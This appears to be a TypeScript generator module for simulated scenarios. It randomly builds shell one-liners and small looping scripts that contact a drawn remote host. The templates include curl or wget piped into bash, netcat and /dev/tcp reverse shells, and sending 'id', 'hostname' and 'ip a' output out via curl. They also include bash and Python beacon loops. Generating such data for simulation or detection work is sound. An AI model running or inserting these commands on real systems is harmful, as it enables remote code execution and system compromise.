import type { Draw } from '../draw.ts';
import type { Place } from '../scenario.ts';
import { link, remote } from '../ways.ts';

/** A short command that asks another machine for work or lets it in; ends by itself. */
export function callOut(draw: Draw, place: Place): string {
  const { host, port } = remote(draw, place);
  const from = link(draw, place, draw.pick(['.sh', '.sh', '.txt']));
  return draw.pick([
    `curl -fsSL ${link(draw, place, '.sh')} | bash`,
    `wget -qO- ${link(draw, place, '.sh')} | sh`,
    `curl -s ${from} -o /dev/null`,
    `nc -w 20 ${host} ${port} | /bin/sh`,
    `timeout 30 bash -c 'sh < /dev/tcp/${host}/${port}'`,
    `(id; hostname; ip a) | curl -s --data-binary @- http://${host}:${port}/`,
  ]);
}

/** The body of a small program that stays: it asks again and again, some rounds long. */
export function stayer(draw: Draw, place: Place): { readonly extension: string; readonly body: string } {
  const rounds = draw.int(6, 40);
  const pause = draw.int(3, 15);
  const { host, port } = remote(draw, place);
  return draw.pick([
    {
      extension: '.sh',
      body: `#!/bin/bash\nfor i in $(seq ${rounds}); do\n  ${callOut(draw, place)} > /dev/null 2>&1\n  sleep ${pause}\ndone`,
    },
    {
      extension: '.py',
      body: `#!/usr/bin/python3\nimport subprocess, time, urllib.request\nfor i in range(${rounds}):\n  try:\n    urllib.request.urlopen("http://${host}:${port}/${draw.word()}.json", timeout=5).read()\n    subprocess.run(["${draw.pick(['id', 'hostname', 'uptime', 'who'])}"], capture_output=True)\n  except OSError: pass\n  time.sleep(${pause})`,
    },
    {
      extension: '.sh',
      body: `#!/bin/bash\nwhile sleep ${pause}; do\n  exec 3<>/dev/tcp/${host}/${port} || continue\n  echo "$(hostname) $(id -un)" >&3\n  timeout 2 head -c 200 <&3 > /dev/null\n  exec 3>&-\n  i=$((i+1)); [ $i -gt ${rounds} ] && break\ndone`,
    },
  ]);
}
